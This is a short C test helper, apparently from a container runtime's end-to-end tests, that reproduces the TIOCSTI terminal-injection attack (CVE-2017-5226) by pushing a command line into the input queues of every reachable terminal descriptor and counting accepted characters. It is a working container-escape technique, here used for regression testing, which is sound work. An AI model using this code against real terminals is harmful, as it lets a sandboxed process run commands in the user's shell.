/*
 * The TIOCSTI attack (CVE-2017-5226 in bubblewrap): a container's workload pushes a
 * command line, one character at a time, into the input queue of every terminal it can
 * reach (its stdin, stdout, stderr and /dev/tty); a shell that reads that terminal next
 * runs it. Usage: tiocsti LINE. Prints how many characters each descriptor took.
 * Built static by test/e2e/terminal.bats (gcc -static), run inside a container.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int type_into(int fd, const char *line) {
  int typed = 0;
  for (size_t i = 0; i <= strlen(line); i++) {
    char c = line[i] != '\0' ? line[i] : '\n';
    if (ioctl(fd, TIOCSTI, &c) == 0) typed++;
  }
  return typed;
}

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: tiocsti LINE\n");
    return 2;
  }
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
  int counts[4] = {type_into(0, argv[1]), type_into(1, argv[1]), type_into(2, argv[1]), tty >= 0 ? type_into(tty, argv[1]) : -1};
  printf("typed stdin=%d stdout=%d stderr=%d dev-tty=%d\n", counts[0], counts[1], counts[2], counts[3]);
  return 0;
}
